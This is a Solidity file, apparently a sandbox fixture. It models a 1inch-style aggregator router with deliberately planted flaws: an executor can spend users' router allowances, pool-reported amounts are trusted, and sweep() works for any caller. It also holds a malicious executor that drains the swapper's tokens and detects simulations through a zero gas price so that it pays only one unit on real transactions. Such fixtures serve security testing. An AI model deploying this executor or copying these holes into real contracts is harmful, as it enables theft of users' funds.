// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Token {
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
}

interface Executor {
    function execute(address sender) external payable returns (uint256);
}

interface Pool {
    function swap(address token, uint256 amount, address to) external payable returns (uint256);
}

/// A model of an aggregator's router with the calls of 1inch's v6. Its flaw is that the contract being called may take
/// whatever users allowed the router to spend.
contract SandboxAggregator {
    address private constant NATIVE = 0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE;
    address private running;

    struct Description {
        address srcToken;
        address dstToken;
        address payable srcReceiver;
        address payable dstReceiver;
        uint256 amount;
        uint256 minReturnAmount;
        uint256 flags;
    }

    error ReturnAmountIsNotEnough(uint256 result, uint256 minReturn);

    receive() external payable {}

    function swap(Executor executor, Description calldata desc, bytes calldata)
        external
        payable
        returns (uint256 returned, uint256 spent)
    {
        require(msg.value == (desc.srcToken == NATIVE ? desc.amount : 0), "InvalidMsgValue");
        if (desc.srcToken != NATIVE) {
            Token(desc.srcToken).transferFrom(msg.sender, desc.srcReceiver, desc.amount);
        }
        running = address(executor);
        returned = executor.execute{value: msg.value}(msg.sender);
        running = address(0);
        if (returned < desc.minReturnAmount) revert ReturnAmountIsNotEnough(returned, desc.minReturnAmount);
        pay(desc.dstToken, desc.dstReceiver == address(0) ? msg.sender : desc.dstReceiver, returned);
        spent = desc.amount;
    }

    /// Like the original, trusts what the pool reports, so an unpaid amount goes unnoticed.
    function ethUnoswap(uint256 minReturn, uint256 dex) external payable returns (uint256 returned) {
        returned = Pool(address(uint160(dex))).swap{value: msg.value}(NATIVE, msg.value, msg.sender);
        if (returned < minReturn) revert ReturnAmountIsNotEnough(returned, minReturn);
    }

    /// The flaw.
    function take(address token, address from, address to, uint256 amount) external {
        require(msg.sender == running, "not running");
        Token(token).transferFrom(from, to, amount);
    }

    /// A function that is not a swap, for any caller.
    function sweep(address token, address to) external payable {
        Token(token).transferFrom(msg.sender, to, Token(token).balanceOf(msg.sender));
    }

    function pay(address token, address to, uint256 amount) private {
        if (token != NATIVE) Token(token).transfer(to, amount);
        else payable(to).transfer(amount);
    }
}

/// An executor and a pool that pays what it holds of a token, and optionally does harm.
contract SandboxExecutor {
    SandboxAggregator private immutable router;
    address private immutable token;
    uint256 private immutable amount;
    /// The token to steal from the swapper, up to the router's allowance.
    address private immutable also;
    /// Whether it pays in full only during simulations, and otherwise one unit.
    bool private immutable isTwoFaced;

    constructor(SandboxAggregator router_, address token_, uint256 amount_, address also_, bool isTwoFaced_) {
        (router, token, amount, also, isTwoFaced) = (router_, token_, amount_, also_, isTwoFaced_);
    }

    function execute(address sender) external payable returns (uint256) {
        if (also != address(0)) router.take(also, sender, address(this), Token(also).balanceOf(sender));
        uint256 paid = isTwoFaced && !isWatched() ? 1 : amount;
        Token(token).transfer(msg.sender, paid);
        return paid;
    }

    function swap(address, uint256, address to) external payable returns (uint256) {
        Token(token).transfer(to, isTwoFaced && !isWatched() ? 1 : amount);
        return amount;
    }

    /// Simulated calls often have no gas price.
    function isWatched() private view returns (bool) {
        return tx.gasprice == 0;
    }
}
